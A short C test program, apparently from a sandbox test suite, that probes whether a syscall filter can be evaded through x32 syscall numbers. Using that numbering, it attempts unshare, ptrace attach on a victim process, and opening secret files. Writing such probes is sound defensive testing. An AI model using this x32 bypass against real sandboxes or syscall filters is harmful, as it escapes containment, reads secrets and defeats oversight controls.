// Uses the x32 numbering, which rules about plain numbers do not see (asm/unistd.h, __X32_SYSCALL_BIT).
#include "proof.h"

#ifdef __x86_64__
static int known;
static void steal(const char *path) {
    long fd = syscall(0x40000000 | SYS_openat, AT_FDCWD, path, O_RDONLY);
    known |= fd >= 0 || errno != ENOSYS;
    print_fd(fd);
}
#endif

int main(void) {
    bounded();
#ifdef __x86_64__
    // Refused calls first: unshare, ptrace (by its own x32 number), io_uring_setup.
    if (syscall(0x40000000 | SYS_unshare, CLONE_NEWUTS) == 0 && *env("CAGED")) printf("ESCAPED unshare\n");
    syscall(0x40000000 | 521, 16 /* PTRACE_ATTACH */, env_number("VICTIM_PID"), 0, 0);
    each_path("SECRETS", steal);
    if (!known) unsupported("the kernel has no x32 ABI");
#else
    unsupported("not an x86-64 machine");
#endif
    return 0;
}
